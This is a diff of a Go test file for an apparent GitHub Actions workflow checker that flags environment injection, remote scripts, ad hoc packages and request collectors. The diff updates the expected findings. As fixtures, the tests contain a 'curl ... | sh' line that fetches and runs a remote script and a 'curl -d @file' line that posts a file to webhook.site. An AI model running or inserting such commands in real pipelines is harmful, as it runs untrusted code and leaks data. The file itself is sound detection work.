@@ -16,7 +16,7 @@ func TestCheckEnvironmentFiles(t *testing.T) {
 `+env), []string{"7 environment-injection high certain"}},
 		{"what is not known", stepsOn("issues", `
       - run: echo "V=$(make version)" >> $GITHUB_ENV
-`), []string{"7 environment-injection - -"}},
+`), []string{"7 environment-injection - - -1"}},
 		{"fixed", stepsOn("issues", `
       - run: |
           echo "V=1" >> $GITHUB_ENV
@@ -80,7 +80,7 @@ func TestCheckScripts(t *testing.T) {
           npm ci
           make
       - uses: some/action@v1
-`), []string{"8 remote-script - -", "9 adhoc-packages - -"}},
+`), []string{"8 remote-script - -", "9 adhoc-packages - - -1"}},
 		{"a remote script beside a token that can write", `on: push
 permissions: {contents: read}
 jobs:
@@ -103,8 +103,7 @@ jobs:
     permissions: {}
     runs-on: x
     steps: [{run: "curl https://example.com/a | sh"}]
-`, []string{"6 remote-script - -", "10 remote-script high -", "14 remote-script - -", "18 remote-script high -",
-			"22 remote-script - -"}},
+`, []string{"6 remote-script - - -1", "10 remote-script - - +1", "14 remote-script - -", "18 remote-script - - +1", "22 remote-script - - -1"}},
 		{"a service that shows requests", stepsOn("push", `
       - run: curl -d @file https://webhook.site/0123
 `), []string{"7 request-collector - -"}},
